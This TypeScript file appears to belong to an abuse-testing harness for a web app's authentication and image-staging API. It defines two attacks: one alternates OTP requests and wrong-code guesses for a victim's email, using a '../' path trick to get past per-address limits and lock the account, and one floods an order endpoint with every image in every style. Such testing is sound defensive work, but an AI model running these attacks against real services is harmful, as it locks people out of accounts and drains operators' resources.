import { CANONICAL_STYLES } from '../../../../machines/vocabulary.ts';
import type { Attack } from '../attack.ts';
import { atRate, sender } from './sending.ts';

const JSON_TYPE = { 'content-type': 'application/json' };

/** Requests codes for a victim's address and tries wrong ones, beyond the limits of one address. */
export const lockOut: Attack = {
  run({ origin, victim, signal, note }) {
    const send = sender(origin);
    return atRate(4, { signal, note }, (number) => {
      const [path, body] =
        number % 2 === 0
          ? ['send-verification-otp', { email: victim, type: 'sign-in' }]
          : ['../sign-in/email-otp', { email: victim, otp: String(100_000 + number) }];
      const address = new URL(`/api/auth/email-otp/${path}`, origin).pathname;
      return send(address, { method: 'POST', headers: JSON_TYPE, body: JSON.stringify(body) });
    });
  },
};

const ORDERS_A_CALL = 10;

/** Orders a picture of every photo in every style, a minute after signing up. */
export const manyOrders: Attack = {
  run({ origin, cookie, imageIds, signal, note }) {
    const send = sender(origin);
    const orders = imageIds.flatMap((originalImageId) =>
      CANONICAL_STYLES.map((style) => ({ originalImageId, roomType: 'LIVING_ROOM', style })),
    );
    return atRate(10, { signal, note, most: 8 }, async (number) => {
      const assignments = orders.slice(number * ORDERS_A_CALL, (number + 1) * ORDERS_A_CALL);
      if (assignments.length === 0) return 'all ordered';
      return send('/api/trpc/ai.submitRoomStaging', {
        method: 'POST',
        headers: { ...JSON_TYPE, cookie },
        body: JSON.stringify({ json: { assignments } }),
      });
    });
  },
};
